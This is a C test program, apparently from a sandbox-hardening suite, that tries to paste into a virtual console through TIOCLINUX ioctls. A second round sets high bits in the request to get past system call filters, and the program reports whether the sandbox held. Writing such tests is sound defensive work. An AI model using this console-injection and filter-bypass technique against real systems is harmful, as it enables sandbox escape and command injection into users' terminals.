// SPDX-License-Identifier: Apache-2.0
// attack: pastes into a virtual console, with and without high bits in the request (TIOCLINUX)
// topic: terminal
// stops: no terminal among its descriptors; system call filter
// reprove: held
// bwrap: held
#include "attack.h"
#include <linux/tiocl.h>

int main(void) {
    static const char *const consoles[] = {"/dev/tty", "/dev/tty0", "/dev/tty1", "/dev/console", "/proc/self/fd/0"};
    char paste[16] = {TIOCL_PASTESEL}, select[16] = {TIOCL_SETSEL};
    int done = 0;
    for (int at = 0; at < 5; at++) open(consoles[at], O_RDWR | O_NONBLOCK);
    for (int file = 0; file < 64; file++) {
        for (int round = 0; round < 2; round++) {
            long request = 0x541c | (round ? 0x100000000L : 0);
            done += syscall(SYS_ioctl, (long)file, request, select) == 0;
            done += syscall(SYS_ioctl, (long)file, request, paste) == 0;
        }
    }
    if (done) escaped("a console took %d requests", done);
    held("no console takes a request");
}
